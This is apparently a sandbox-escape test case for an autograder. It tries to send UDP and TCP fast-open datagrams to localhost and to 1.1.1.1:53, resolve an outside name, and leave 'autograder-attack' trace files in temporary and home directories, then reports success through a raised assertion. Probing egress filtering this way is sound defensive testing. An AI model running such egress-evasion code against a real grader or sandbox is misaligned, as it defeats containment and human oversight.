"""Sends datagrams to 127.0.0.1:47811 and to the outside, and hides data in the name that it looks up; UDP needs no connect that a filter sees.

family: network
start: solved
"""

# %% first
_done = []


def _achieved(what, stem="send_by_udp_and_dns"):
    """Leave a trace of a success, outside if that is possible."""
    import os

    folders = ["/tmp", "/var/tmp", os.path.expanduser("~")]
    try:
        import pwd

        folders.append(pwd.getpwuid(os.getuid()).pw_dir)
    except Exception:
        pass
    for folder in folders:
        try:
            with open(os.path.join(folder, "autograder-attack-" + stem), "a") as file:
                file.write(str(what)[:2000] + "\n")
        except Exception:
            pass
    _done.append(str(what)[:200])


def _report():
    """Say it in the report too: the cell error is carried out."""
    if _done:
        raise AssertionError("ACHIEVED: " + "; ".join(_done[:5]))

import socket

for _family, _address in ((socket.AF_INET, ("127.0.0.1", 47811)), (socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_INET6, ("::1", 47811))):
    for _flags in (0, getattr(socket, "MSG_FASTOPEN", 0)):
        try:
            with socket.socket(_family, socket.SOCK_DGRAM if not _flags else socket.SOCK_STREAM) as _socket:
                _socket.settimeout(1)
                _socket.sendto(b"autograder-attack", _flags, _address)
                _achieved(f"sent to {_address}, flags {_flags}")
        except Exception:
            continue
try:
    _achieved(socket.getaddrinfo("example.com", 80)[0][4])
except Exception:
    pass
_report()
